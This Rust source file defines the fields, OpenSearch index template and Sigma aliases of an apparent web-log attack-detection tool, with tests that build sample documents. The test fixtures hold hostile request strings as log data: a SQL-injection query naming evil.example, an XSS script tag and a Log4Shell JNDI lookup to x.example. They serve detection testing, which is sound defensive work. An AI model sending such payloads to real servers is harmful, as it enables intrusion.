//! Every field that a document can hold: one list, from which the mapping of OpenSearch, the
//! page `FIELDS.md` and what solo searches are made.
//!
//! Names and types are those of the Elastic Common Schema 8.11; `attack.*` and `twosec.*` are
//! our own. A test builds documents with all that lines can tell, and holds them against the
//! list, and the list against ECS.

use serde::Serialize;
use serde_json::{Map, Value, json};
use std::collections::BTreeMap;

/// Characters of a value that is searched as a whole; a longer one is kept in the document and
/// not searched. Lucene takes 32,766 bytes, and a character has four at most.
pub const IGNORE_ABOVE: usize = 8191;

/// A field of documents. Of objects, only the innermost fields are listed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Field {
    pub name: &'static str,
    pub kind: Kind,
    /// Whether the value is an array.
    pub is_array: bool,
    /// What stands in it, in one sentence.
    pub meaning: &'static str,
}

/// A type, in the words of ECS.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Kind {
    /// Searched as a whole.
    Keyword,
    /// Searched as a whole and by patterns such as `*/etc/passwd*`.
    Wildcard,
    /// Searched word by word.
    MatchOnlyText,
    Date,
    Long,
    Float,
    Boolean,
    Ip,
    GeoPoint,
    /// Keys that the operator chooses, with keywords as values; each key is a field.
    Object,
    /// Keys that lines choose, with keywords as values; all keys together are one field, so
    /// that no line can make fields.
    Flattened,
}

macro_rules! field {
    ($name:literal [$kind:ident] $meaning:literal) => {
        Field { name: $name, kind: Kind::$kind, is_array: true, meaning: $meaning }
    };
    ($name:literal $kind:ident $meaning:literal) => {
        Field { name: $name, kind: Kind::$kind, is_array: false, meaning: $meaning }
    };
}

/// Name, type (in brackets where the value is an array) and meaning.
macro_rules! fields {
    ($($name:literal $kind:tt $meaning:literal,)*) => {
        /// All fields, in the order in which documents hold them.
        pub const FIELDS: &[Field] = &[$(field!($name $kind $meaning)),*];
    };
}

fields! {
    "@timestamp" Date "When the line was written; of a line without a time, when it was read.",
    "ecs.version" Keyword "The version of ECS whose names these are: `8.11.0`.",
    "message" MatchOnlyText "What an error log's line says, without time, level and client.",
    "event.id" Keyword "Id of the line, from its place in its file; it is the document's `_id`.",
    "event.kind" Keyword "`alert` where an attack was found, `pipeline_error` where the line could not be read, else `event`.",
    "event.category" [Keyword] "`web`; `intrusion_detection`, too, where an attack was found.",
    "event.type" [Keyword] "`access` or `error`, for the log that the line is of; `info`, too, where an attack was found.",
    "event.module" Keyword "The program that wrote the line: `apache`, or `docker` for other output of a container.",
    "event.dataset" Keyword "The kind of log: `apache.access`, `apache.error` or `docker.container_logs`.",
    "event.outcome" Keyword "`success` of a status below 400, `failure` of others; absent without a status.",
    "event.duration" Long "How long the request took, in nanoseconds.",
    "event.start" Date "When an incident began.",
    "event.end" Date "When the actor of an incident was seen last.",
    "event.reason" Keyword "What an incident's outcome rests on, in a sentence.",
    "event.severity" Long "`attack.severity` as a number: 21, 47, 73 or 99.",
    "event.risk_score" Float "`attack.score` where ECS looks for it: 1 to 100.",
    "event.original" Keyword "The line as it left the host; searched word by word.",
    "source.address" Keyword "The client's address or name, as the log has it.",
    "source.ip" Ip "The client's address.",
    "source.port" Long "The client's port.",
    "source.geo.continent_code" Keyword "Continent of the client's address, such as `EU`.",
    "source.geo.country_iso_code" Keyword "Country of the client's address, by ISO 3166-1, such as `GB`.",
    "source.geo.country_name" Keyword "The country's English name.",
    "source.geo.region_iso_code" Keyword "The smallest region that is known, by ISO 3166-2, such as `GB-ENG`.",
    "source.geo.region_name" Keyword "The region's English name.",
    "source.geo.city_name" Keyword "The city's English name.",
    "source.geo.location" GeoPoint "The middle of the place; tens of kilometres off are usual.",
    "source.geo.timezone" Keyword "The place's zone, such as `Europe/London`.",
    "source.as.number" Long "Number of the autonomous system that routes the client's address.",
    "source.as.organization.name" Keyword "Who runs that system.",
    "user.name" Keyword "The name with which the client logged in to the server.",
    "url.original" Wildcard "The target of the request, as the client sent it.",
    "url.scheme" Keyword "Scheme of a target that is a whole URL.",
    "url.domain" Keyword "The host that the target names; else the virtual host that answered.",
    "url.port" Long "The port that stands beside `url.domain`.",
    "url.path" Wildcard "The target up to the question mark.",
    "url.query" Keyword "The target behind the question mark.",
    "url.registered_domain" Keyword "The part of `url.domain` that somebody registered, such as `example.co.uk`.",
    "url.top_level_domain" Keyword "The public suffix behind it, such as `co.uk`.",
    "url.subdomain" Keyword "What stands in front of the registered domain.",
    "url.extension" Keyword "Ending of the path's last segment, in lower case and without its dot.",
    "http.version" Keyword "Version of HTTP, such as `1.1`.",
    "http.request.method" Keyword "The method, as the client sent it.",
    "http.request.referrer" Keyword "The request's header `Referer`.",
    "http.response.status_code" Long "The status that the server sent.",
    "http.response.body.bytes" Long "Length of the response, in bytes.",
    "user_agent.original" Keyword "The request's header `User-Agent`.",
    "user_agent.name" Keyword "The browser, tool or robot that it says it is, such as `Firefox`.",
    "user_agent.version" Keyword "The browser's version.",
    "user_agent.os.name" Keyword "The system that it says it runs on.",
    "user_agent.os.version" Keyword "The system's version.",
    "user_agent.device.name" Keyword "The device that it says it runs on, such as `iPhone`.",
    "host.id" Keyword "The machine that has the log: its machine-id, or the setting `host_id`.",
    "host.name" Keyword "The machine's name.",
    "cloud.provider" Keyword "The cloud that the machine stands in, such as `aws`.",
    "cloud.region" Keyword "The machine's region.",
    "cloud.availability_zone" Keyword "The machine's zone.",
    "cloud.account.id" Keyword "The account that the machine belongs to.",
    "cloud.instance.id" Keyword "The machine's id in its cloud.",
    "cloud.machine.type" Keyword "The machine's type, such as `c7g.large`.",
    "labels" Object "The machine's tags; dots in keys are `_`.",
    "container.id" Keyword "Id of the container that wrote the line.",
    "container.name" Keyword "The container's name.",
    "container.labels" Object "What Docker's log options tell of the container; dots in keys are `_`.",
    "log.file.path" Keyword "The log, by the name under which it is written to, also for lines of rotated files.",
    "log.level" Keyword "An error log's level, `emerg` to `trace8`.",
    "log.logger" Keyword "The module of Apache that wrote the message.",
    "log.origin.file.name" Keyword "The source file that the message came from: of PHP, or of Apache itself.",
    "log.origin.file.line" Long "The line in that file.",
    "process.pid" Long "The server's process that wrote the message.",
    "process.thread.id" Long "The server's thread that wrote the message.",
    "agent.type" Keyword "`twosec-agent`; `twosec-processor` for lines of other producers.",
    "agent.version" Keyword "Version of the agent that read the line.",
    "rule.id" [Keyword] "The rules that found the attack, as in `attack.findings`.",
    "rule.category" [Keyword] "The same as `attack.categories`, where ECS looks for it.",
    "rule.ruleset" Keyword "Version of the rules that judged the line.",
    "threat.framework" Keyword "`MITRE ATT&CK`.",
    "threat.technique.id" [Keyword] "Techniques of MITRE ATT&CK that rules name or categories stand for, such as `T1059`.",
    "threat.technique.subtechnique.id" [Keyword] "Sub-techniques among them, such as `T1059.007`.",
    "error.code" Keyword "Apache's number of the message, such as `AH00126`.",
    "error.type" Keyword "What PHP calls the error, such as `PHP Fatal error`.",
    "error.message" MatchOnlyText "The message of an error log, or why a line could not be read.",
    "error.stack_trace" Wildcard "PHP's stack trace.",
    "related.ip" [Ip] "All addresses in the document.",
    "related.user" [Keyword] "All user names in the document.",

    "attack.categories" [Keyword] "What was tried, such as `sqli`; strongest first.",
    "attack.score" Long "How much all findings together say that somebody attacks, 1 to 100.",
    "attack.confidence" Keyword "How sure the surest finding is: `low`, `medium` or `high`.",
    "attack.severity" Keyword "How bad the worst category is when it works: `low`, `medium`, `high` or `critical`.",
    "attack.outcome" Keyword "Whether it worked, as far as logs tell: `blocked`, `failed`, `unknown` or `likely_succeeded`.",
    "attack.outcome_reason" Keyword "What that guess rests on, in a sentence.",
    "attack.capec" [Long] "Attack patterns of MITRE CAPEC that rules name or categories stand for.",
    "attack.cwe" [Long] "Weaknesses of MITRE CWE that rules name or categories aim at.",
    "attack.findings.rule" Keyword "Id of a rule that matched.",
    "attack.findings.category" Keyword "The rule's category.",
    "attack.findings.confidence" Keyword "How sure the rule is: `low`, `medium` or `high`.",
    "attack.findings.severity" Keyword "How bad it is when it works: `low`, `medium`, `high` or `critical`.",
    "attack.findings.cve" [Keyword] "The vulnerabilities that the rule is about, such as `CVE-2021-44228`.",
    "attack.findings.technique" [Keyword] "Techniques of MITRE ATT&CK that its rule names or else its category stands for, such as `T1059.007`.",
    "attack.findings.capec" [Long] "Attack patterns of MITRE CAPEC that its rule names or else its category stands for.",
    "attack.findings.cwe" [Long] "Weaknesses of MITRE CWE that its rule names or else its category aims at.",
    "attack.findings.score" Long "The rule's own score, 1 to 100.",
    "attack.findings.field" Keyword "The part of the request in which it matched, such as `url.query`.",
    "attack.findings.parameter" Keyword "The query's parameter in which it matched, or the header's name.",
    "attack.findings.layer" Long "How often the value was decoded before it matched, 0 to 3.",
    "attack.findings.excerpt" Keyword "The decoded text around the match, at most 120 characters.",
    "attack.findings.span" [Long] "From which to which byte of `event.original` it lies; of a value that had to be decoded, all of it.",

    "twosec.life" Keyword "The run of bytes that the line is of, whatever its file is called by now.",
    "twosec.offset" Long "Where the line begins in its life, in bytes.",
    "twosec.format" Keyword "How the line is written, where no name says it: Apache's own format string.",
    "twosec.day" Keyword "The day that decides the index of a line that tells no time, such as `2026-11-16`.",
    "twosec.cut_from" Long "Length of a line that was cut at the limit, in bytes.",
    "twosec.gap.from" Long "Where bytes begin that were lost before they were read.",
    "twosec.gap.to" Long "Where they end: the first byte behind them.",
    "twosec.gap.reason" Keyword "Why they were lost.",
    "twosec.fields" Flattened "What a LogFormat tells beyond ECS, by its directive, such as `%{Host}i`; of long values the beginning.",
    "twosec.modsecurity" Flattened "What ModSecurity tells of a rule that matched, by its own names; of long values the beginning.",
    "twosec.redacted" [Keyword] "Secrets that were masked, as `key=digits of a hash`; equal secrets have equal digits.",
    "twosec.duplicate_of" Keyword "The log that has the same line, where a container prints a log that is read itself.",
    "twosec.cloud.image_id" Keyword "The image that the machine was made from.",
    "twosec.cloud.vpc_id" Keyword "The network that the machine stands in.",
    "twosec.incident.id" Keyword "The incident: the `event.id` of its document, also in the lines that belong to it: its findings, told of or not, and what else its actor asks for meanwhile.",
    "twosec.incident.revision" Long "Of an incident, how often it has changed; a document with a higher one replaces it.",
    "twosec.incident.requests" Long "Requests of the actor since the incident began.",
    "twosec.incident.findings" Long "Those among them that hold an attack.",
    "twosec.incident.categories" Flattened "Findings by category.",
    "twosec.incident.behaviour" [Keyword] "What the actor did that no single line shows, a sentence each.",
    "twosec.incident.targets" [Keyword] "The paths that were attacked most.",
    "twosec.incident.user_agents" [Keyword] "User agents that the actor sent.",
    "twosec.incident.phases" [Keyword] "How far the actor came: `recon`, `attack`, `success`.",
    "twosec.incident.evidence.event" Keyword "Id of the event that holds one of the strongest findings.",
    "twosec.incident.evidence.rule" Keyword "The rule that matched there.",
    "twosec.incident.evidence.category" Keyword "The rule's category.",
    "twosec.incident.evidence.score" Long "The rule's own score, 1 to 100.",
    "twosec.incident.evidence.field" Keyword "The part of the request in which it matched.",
    "twosec.incident.evidence.parameter" Keyword "The query's parameter in which it matched.",
    "twosec.incident.evidence.excerpt" Keyword "The decoded text around the match.",
    "twosec.incident.is_over" Boolean "Whether the actor was quiet for so long that what comes next is another incident.",
    "twosec.source.class" Keyword "What the client's address is set aside for: `public`, `private`, `loopback`, `documentation` and so on.",
    "twosec.source.provider" Keyword "The name of the client's network in the operator's own list.",
    "twosec.source.peer" Ip "The trusted proxy that passed the request on, where `source.ip` is who stands behind it.",
}

/// What Sigma's rules call fields of web servers (Sigma specification, "Taxonomy Appendix",
/// Webserver), with the variants that rules write, and ours. What they call the query is often all of
/// the target. In an index these are aliases, so that a detector of Security Analytics need not map them.
pub const SIGMA: &[(&str, &str)] = &[
    ("c-ip", "source.ip"),
    ("c-method", "http.request.method"),
    ("c-referer", "http.request.referrer"),
    ("c-uri", "url.original"),
    ("c-uri-extension", "url.extension"),
    ("c-uri-path", "url.path"),
    ("c-uri-query", "url.original"),
    ("c-uri-stem", "url.path"),
    ("c-user-agent", "user_agent.original"),
    ("c-useragent", "user_agent.original"),
    ("c-username", "user.name"),
    ("cs-host", "url.domain"),
    ("cs-method", "http.request.method"),
    ("cs-referer", "http.request.referrer"),
    ("cs-referrer", "http.request.referrer"),
    ("cs-uri", "url.original"),
    ("cs-uri-query", "url.original"),
    ("cs-uri-stem", "url.path"),
    ("cs-user-agent", "user_agent.original"),
    ("cs-useragent", "user_agent.original"),
    ("cs-username", "user.name"),
    ("sc-bytes", "http.response.body.bytes"),
    ("sc-status", "http.response.status_code"),
];

/// The field of a name.
pub fn named(name: &str) -> Option<&'static Field> {
    FIELDS.iter().find(|field| field.name == name)
}

impl Field {
    /// Whether ECS does not know it.
    pub fn is_own(&self) -> bool {
        self.name.starts_with("attack.") || self.name.starts_with("twosec.")
    }

    /// The type by which it is searched. ECS keeps `event.original` for reading only; here
    /// all words that nobody gave a field are looked for in it.
    pub fn searched(&self) -> Kind {
        if self.name == "event.original" { Kind::MatchOnlyText } else { self.kind }
    }

    /// OpenSearch's type as tables write it: `keyword[]` for an array.
    pub fn written_type(&self) -> String {
        format!("{}{}", self.searched().opensearch(), if self.is_array { "[]" } else { "" })
    }

    /// The same as a table's row tells, for machines.
    pub fn to_json(&self) -> Value {
        json!({
            "name": self.name,
            "type": self.searched().opensearch(),
            "is_array": self.is_array,
            "is_ecs": !self.is_own(),
            "meaning": self.meaning,
        })
    }
}

impl Kind {
    /// The type in OpenSearch.
    pub fn opensearch(self) -> &'static str {
        match self {
            // OpenSearch has a type `wildcard`, too. Its 2.19.1 and 3.8.0 count pieces of such
            // values instead of values, and find nothing for a pattern in a query string.
            // Keywords are counted right, and patterns find them.
            Kind::Keyword | Kind::Wildcard => "keyword",
            Kind::MatchOnlyText => "match_only_text",
            Kind::Date => "date",
            Kind::Long => "long",
            Kind::Float => "float",
            Kind::Boolean => "boolean",
            Kind::Ip => "ip",
            Kind::GeoPoint => "geo_point",
            Kind::Object => "object",
            Kind::Flattened => "flat_object",
        }
    }

    /// How OpenSearch keeps it. Whatever a line holds, its document is taken: what is too long
    /// for a field or does not fit its type is left unsearched, and stays in the text.
    fn mapping(self) -> Value {
        let name = self.opensearch();
        match self {
            Kind::Keyword | Kind::Wildcard => json!({"type": name, "ignore_above": IGNORE_ABOVE}),
            Kind::Date | Kind::Long | Kind::Float | Kind::Ip | Kind::GeoPoint => {
                json!({"type": name, "ignore_malformed": true})
            }
            Kind::Object => json!({"type": name, "dynamic": true}),
            Kind::MatchOnlyText | Kind::Flattened | Kind::Boolean => json!({"type": name}),
        }
    }
}

/// The index template for all indices that begin with `prefix`, as OpenSearch 2.12 and later
/// take it (`PUT _index_template/NAME`).
///
/// Findings are plain objects, not nested ones: each nested one would be a document of its
/// own, and all that is asked of them is whether any of them has this rule or this parameter.
pub fn index_template(prefix: &str) -> Value {
    let mut properties = properties(FIELDS.iter().map(|field| (field.name, field)).collect());
    let alias = |field: &str| json!({"type": "alias", "path": field});
    properties.extend(SIGMA.iter().map(|(name, field)| ((*name).to_owned(), alias(field))));
    json!({
        "index_patterns": [format!("{prefix}-*")],
        "priority": 200,
        "template": {
            "settings": {"index": {
                // A day of a small company's web server is far below the 10 to 50 GB of a shard.
                "number_of_shards": 1,
                // A domain of one node has no place for a copy, and would be yellow for ever.
                "auto_expand_replicas": "0-1",
                "codec": "best_compression",
                // Labels are the only names that documents may add.
                "mapping": {"total_fields": {"limit": 2000}},
            }},
            "mappings": {
                "dynamic": false,
                "date_detection": false,
                "dynamic_templates": label_templates(),
                "properties": properties,
            },
        },
        "_meta": {"description": "Events of 2SeC, in fields of ECS 8.11", "version": env!("CARGO_PKG_VERSION")},
    })
}

/// Each label is a keyword, whatever its value looks like.
fn label_templates() -> Vec<Value> {
    let template = |field: &Field| {
        let below = format!("{}.*", field.name);
        json!({field.name: {"path_match": below, "mapping": Kind::Keyword.mapping()}})
    };
    FIELDS.iter().filter(|field| field.kind == Kind::Object).map(template).collect()
}

/// The fields below one object, with their names from there on.
fn properties(fields: Vec<(&str, &Field)>) -> Map<String, Value> {
    let mut out = Map::new();
    let mut deeper: BTreeMap<&str, Vec<(&str, &Field)>> = BTreeMap::new();
    for (name, field) in fields {
        match name.split_once('.') {
            Some((object, rest)) => deeper.entry(object).or_default().push((rest, field)),
            None => {
                out.insert(name.to_owned(), field.searched().mapping());
            }
        }
    }
    out.extend(deeper.into_iter().map(|(name, fields)| (name.to_owned(), json!({"properties": properties(fields)}))));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::classify::Classifier;
    use crate::document::Document;
    use crate::format::Format;
    use crate::geo::{AutonomousSystem, Geo, Location, Organization, Place, SourceFacts};
    use crate::id::HostKey;
    use crate::line::{Cloud, Container, Event, Host, Origin};
    use std::collections::BTreeSet;
    use std::fmt::Write as _;
    use std::sync::Arc;

    const ECS: &str = include_str!("../data/ecs-8.11.tsv");

    /// A field as ECS has it.
    struct EcsField {
        kind: &'static str,
        is_array: bool,
        /// The values that it may have, if they are told; of a category also the types of
        /// event that go with it.
        values: BTreeMap<&'static str, Vec<&'static str>>,
    }

    fn ecs() -> BTreeMap<&'static str, EcsField> {
        let value = |text: &'static str| match text.split_once('=') {
            Some((name, types)) => (name, types.split(',').collect()),
            None => (text, Vec::new()),
        };
        let field = |line: &'static str| {
            let mut columns = line.split('\t');
            let (name, kind) = (columns.next().unwrap(), columns.next().unwrap());
            let values = columns.next().map(|values| values.split('|').map(value).collect()).unwrap_or_default();
            assert_eq!(columns.next(), None, "{line}");
            let is_array = kind.ends_with("[]");
            (name, EcsField { kind: kind.trim_end_matches("[]"), is_array, values })
        };
        ECS.lines().map(field).collect()
    }

    fn event(format: &str, line: &str) -> Event {
        let (path, format) = ("/var/log/apache2/a.log", format.parse::<Format>().unwrap());
        let life = HostKey::derive("4a5b").life(path, line.as_bytes());
        let host = Host { id: "4a5b".into(), name: "web-1".into() };
        let origin =
            Origin { ruleset: "2026.11.1".into(), agent: "0.1.0".into(), ..Origin::new(host, path, life, format) };
        let mut event = Event::new(Arc::new(origin), 9, line.as_bytes().to_vec(), 7);
        event.attack = event.parsed().access().and_then(|access| Classifier::embedded().classify(access));
        event
    }

    /// The event with all that can be known of a client.
    fn at_home(event: Event) -> Event {
        let text = |text: &str| Some(text.into());
        let place = Place {
            continent_code: text("EU"),
            country_iso_code: text("GB"),
            country_name: text("United Kingdom"),
            region_iso_code: text("GB-ENG"),
            region_name: text("England"),
            city_name: text("London"),
            location: Location::new(51.5, -0.1),
            timezone: text("Europe/London"),
        };
        let organization = Some(Organization { name: "Example".into() });
        let system = AutonomousSystem { number: Some(64_500), organization };
        let geo = Geo { place: Some(place), system: Some(system) };
        let source = Some(Arc::new(SourceFacts { geo, provider: text("Example Cloud") }));
        Event { client: Some([192, 0, 2, 7].into()), source, ..event }
    }

    /// Documents that between them hold all that lines can tell.
    fn documents() -> Vec<Value> {
        let access = r#"dev.lab:80 192.0.2.7 - bob [16/Nov/2026:08:00:25 +0000] "GET "#;
        let error = "[Mon Nov 23 01:49:33.005699 2026] ";
        let text = |text: &str| Some(text.to_owned());
        let map = |key: &str, value: &str| [(key.to_owned(), value.to_owned())].into();
        let mut in_cloud = event("auto", "odd");
        let origin = Arc::get_mut(&mut in_cloud.origin).unwrap();
        origin.container = Some(Container { id: "c0ffee".into(), name: text("dvwa"), labels: map("a.b", "c") });
        origin.cloud = Some(Cloud {
            provider: "aws".into(),
            region: text("eu-central-1"),
            availability_zone: text("eu-central-1b"),
            account_id: text("123456789012"),
            instance_id: text("i-0123"),
            machine_type: text("c7g.large"),
            vpc_id: text("vpc-0fed"),
            image_id: text("ami-0abc"),
            tags: map("team.name", "shop"),
        });
        let whole = format!(
            r#"{access}http://evil.example:81/a.php?q=%27+union+select+1,2--+ HTTP/1.1" 404 512 "http://dev.lab/?token=REDACTED-0123456789ab" "sqlmap/1.8""#
        );
        let xss = format!(r#"{access}/?q=<script>alert(1)</script> HTTP/1.1" 200 5 "-" "-""#);
        let shop = r#"www.example.co.uk:443 10.0.0.1 - - [16/Nov/2026:08:00:25 +0000] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1""#;
        let log4shell = format!("{access}/?q=${{jndi:ldap://x.example/a}} HTTP/1.1\" 200 5 \"-\" \"-\"");
        let php = r"[php:error] [pid 788:tid 789] [client 192.0.2.7:263] PHP Fatal error:  Uncaught E in /a.php:2\nStack trace:\n#0 {main}\n  thrown in /a.php on line 2";
        let coded = r"[core:notice] [pid 788] AH00094: Command line: '/usr/sbin/apache2'";
        let modsecurity =
            r#"[security2:error] [pid 788:tid 789] [client 192.0.2.7:263] ModSecurity: Warning. [id "942100"]"#;
        let events = [
            event("auto", &whole),
            event("auto", &xss),
            event("auto", &log4shell),
            event("auto", "odd"),
            event("auto", &format!("{error}{php}")),
            event("auto", &format!("{error}{coded}")),
            event("auto", &format!("{error}{modsecurity}")),
            event("%h %t %D %{Host}i", "192.0.2.7 [16/Nov/2026:08:00:25 +0000] 1250 dev.lab"),
            Event { cut: true, length: 2_000_000, day: "2026-11-16".parse().ok(), ..event("auto", "cut") },
            Event { gap: text("the file was deleted"), length: 21, ..event("auto", "") },
            at_home(event("auto", shop)),
            at_home(Event { incident: Some(Box::new(crate::incident::tests::incident())), ..event("auto", "") }),
            Event { duplicate_of: text("/var/log/apache2/access.log"), ..event("auto", &xss) },
            in_cloud,
        ];
        events.iter().map(|event| serde_json::from_slice(&Document::of(event).body).unwrap()).collect()
    }

    /// Calls `each` with the path of each value that is a field's, and whether it or what
    /// it stands in is an array.
    fn walk<'v>(value: &'v Value, path: &str, in_array: bool, each: &mut impl FnMut(&str, &'v Value, bool)) {
        match value {
            Value::Array(values) => values.iter().for_each(|value| walk(value, path, true, each)),
            Value::Object(object) if !object.is_empty() && named(path).is_none() => {
                for (key, value) in object {
                    let path = if path.is_empty() { key.clone() } else { format!("{path}.{key}") };
                    walk(value, &path, in_array, each);
                }
            }
            _ => each(path, value, in_array),
        }
    }

    fn is_keywords(value: &Value) -> bool {
        match value {
            Value::Array(values) => values.iter().all(Value::is_string),
            _ => value.is_string(),
        }
    }

    fn fits(kind: Kind, value: &Value) -> bool {
        match kind {
            Kind::Keyword | Kind::Wildcard | Kind::MatchOnlyText => value.is_string(),
            Kind::Date => value.as_str().and_then(crate::time::parse_rfc3339).is_some(),
            Kind::Long => value.is_i64(),
            Kind::Float => value.is_number(),
            Kind::Boolean => value.is_boolean(),
            Kind::Ip => value.as_str().is_some_and(|text| text.parse::<std::net::IpAddr>().is_ok()),
            Kind::GeoPoint => value["lat"].is_number() && value["lon"].is_number(),
            Kind::Object => value.as_object().is_some_and(|object| object.values().all(Value::is_string)),
            Kind::Flattened => value.as_object().is_some_and(|object| object.values().all(is_keywords)),
        }
    }

    #[test]
    fn the_bundled_list_of_ecs_can_be_read() {
        let ecs = ecs();
        assert_eq!(ecs.len(), ECS.lines().count());
        let category = &ecs["event.category"];
        assert_eq!((category.kind, category.is_array, category.values.len()), ("keyword", true, 20));
        assert_eq!(category.values["web"], ["access", "error", "info"]);
        assert_eq!(ecs["http.response.status_code"].kind, "long");
    }

    #[test]
    fn fields_that_are_not_our_own_are_those_of_ecs() {
        let ecs = ecs();
        for field in FIELDS {
            let Some(theirs) = ecs.get(field.name) else {
                assert!(field.is_own(), "`{}` is neither our own nor in ECS", field.name);
                continue;
            };
            assert_eq!(serde_json::to_value(field.kind).unwrap(), theirs.kind, "{}", field.name);
            // A line can break several rules, and an index takes an array for any field.
            let may_differ = field.name.starts_with("rule.");
            assert!(field.is_array == theirs.is_array || may_differ, "{} is an array in one of both", field.name);
        }
        let names: BTreeSet<_> = FIELDS.iter().map(|field| field.name).collect();
        assert_eq!(names.len(), FIELDS.len(), "a field is listed twice");
    }

    #[test]
    fn documents_hold_the_listed_fields_and_no_others() {
        let mut unseen: BTreeSet<_> = FIELDS.iter().map(|field| field.name).collect();
        for document in documents() {
            walk(&document, "", false, &mut |path, value, in_array| {
                let field = named(path).unwrap_or_else(|| panic!("`{path}` is not listed: {value}"));
                assert!(fits(field.kind, value), "`{path}` is no {:?}: {value}", field.kind);
                let may_be_array = field.is_array
                    || path.starts_with("attack.findings.")
                    || path.starts_with("twosec.incident.evidence.");
                assert_eq!(in_array, may_be_array, "`{path}` is an array, or is listed as one: {document}");
                unseen.remove(path);
            });
        }
        assert_eq!(unseen, BTreeSet::new(), "no document holds these");
    }

    #[test]
    fn values_are_those_that_ecs_allows() {
        let ecs = ecs();
        for document in documents() {
            walk(&document, "", false, &mut |path, value, _| {
                let Some(theirs) = ecs.get(path).filter(|theirs| !theirs.values.is_empty()) else { return };
                let value = value.as_str().unwrap();
                assert!(theirs.values.contains_key(value), "`{path}` may not be `{value}`");
            });
            let types: Vec<_> =
                document["event"]["type"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
            for category in document["event"]["category"].as_array().unwrap() {
                let expected = &ecs["event.category"].values[category.as_str().unwrap()];
                assert!(types.iter().any(|kind| expected.contains(kind)), "{types:?} has no type of {category}");
            }
        }
    }

    #[test]
    fn the_template_maps_each_field() {
        let template = index_template("shop");
        assert_eq!(template["index_patterns"], json!(["shop-*"]));
        let mappings = &template["template"]["mappings"];
        assert_eq!(mappings["dynamic"], false);
        let mapping = |name: &str| {
            let pointer = format!("/properties/{}", name.replace('.', "/properties/"));
            mappings.pointer(&pointer).cloned().unwrap_or_default()
        };
        for (name, expected) in [
            ("@timestamp", json!({"type": "date", "ignore_malformed": true})),
            ("event.original", json!({"type": "match_only_text"})),
            ("user_agent.original", json!({"type": "keyword", "ignore_above": 8191})),
            ("url.path", json!({"type": "keyword", "ignore_above": 8191})),
            ("source.ip", json!({"type": "ip", "ignore_malformed": true})),
            ("attack.findings.layer", json!({"type": "long", "ignore_malformed": true})),
            ("twosec.fields", json!({"type": "flat_object"})),
            ("container.labels", json!({"type": "object", "dynamic": true})),
        ] {
            assert_eq!(mapping(name), expected, "{name}");
        }
        assert!(FIELDS.iter().all(|field| mapping(field.name)["type"] == field.searched().opensearch()));
        assert_eq!(mapping("cs-method"), json!({"type": "alias", "path": "http.request.method"}));
        assert!(SIGMA.iter().all(|(name, field)| named(name).is_none() && named(field).is_some()));
        let labels = json!({"path_match": "container.labels.*", "mapping": {"type": "keyword", "ignore_above": 8191}});
        assert_eq!(mappings["dynamic_templates"][1], json!({"container.labels": labels}));
    }

    const PAGE: &str = include_str!("../FIELDS.md");

    /// The page that tells of the list.
    fn page() -> String {
        let mut page = "\
# Fields of a document

Made from [`src/fields.rs`](src/fields.rs): `TWOSEC_WRITE=1 cargo test -p event fields` writes it
anew. `twosec-agent fields` prints the same. Types are those of OpenSearch; a type with `[]` is an
array of values. A field that has nothing to tell is absent.
"
        .to_owned();
        let (own, ecs): (Vec<&Field>, Vec<&Field>) = FIELDS.iter().partition(|field| field.is_own());
        let tables =
            [("Our own", own), ("Of the [Elastic Common Schema 8.11](https://www.elastic.co/guide/en/ecs/8.11/)", ecs)];
        for (title, fields) in tables {
            let _ = write!(page, "\n## {title}\n\n| field | type | meaning |\n| --- | --- | --- |\n");
            for field in fields {
                let _ = writeln!(page, "| `{}` | {} | {} |", field.name, field.written_type(), field.meaning);
            }
        }
        page.push_str("\n## Aliases: the names of Sigma's rules for web servers\n\n| alias | field |\n| --- | --- |\n");
        for (name, field) in SIGMA {
            let _ = writeln!(page, "| `{name}` | `{field}` |");
        }
        page
    }

    #[test]
    fn the_page_says_what_the_list_says() {
        let page = page();
        if std::env::var_os("TWOSEC_WRITE").is_some() {
            std::fs::write(concat!(env!("CARGO_MANIFEST_DIR"), "/FIELDS.md"), &page).unwrap();
        } else {
            assert_eq!(PAGE, page, "TWOSEC_WRITE=1 cargo test -p event fields writes `event/FIELDS.md` anew");
        }
    }

    #[test]
    fn a_meaning_is_one_sentence() {
        for field in FIELDS {
            let meaning = field.meaning;
            let is_sentence = meaning.ends_with('.') && !meaning.contains(". ") && !meaning.contains('|');
            assert!(is_sentence, "{}: {meaning}", field.name);
        }
    }
}
